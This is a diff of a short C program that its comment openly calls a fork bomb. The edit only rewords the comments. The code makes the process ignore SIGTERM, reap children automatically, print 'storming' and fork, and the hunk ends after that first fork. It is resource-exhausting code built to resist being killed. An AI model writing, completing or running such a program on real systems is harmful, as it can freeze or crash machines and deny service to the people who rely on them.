@@ -1,11 +1,11 @@
-// A fork bomb: everybody has children as fast as he may, every other one in a session of his own, none hears TERM.
+// A fork bomb: every process forks as fast as it can, every other one in its own session, and all ignore TERM.
 #include <signal.h>
 #include <stdio.h>
 #include <unistd.h>
 
 int main(void) {
   signal(SIGTERM, SIG_IGN);
-  signal(SIGCHLD, SIG_IGN); // the dead need no burial, and leave room at once
+  signal(SIGCHLD, SIG_IGN); // zombies are reaped automatically
   puts("storming");
   fflush(stdout);
   if (fork() != 0) pause();
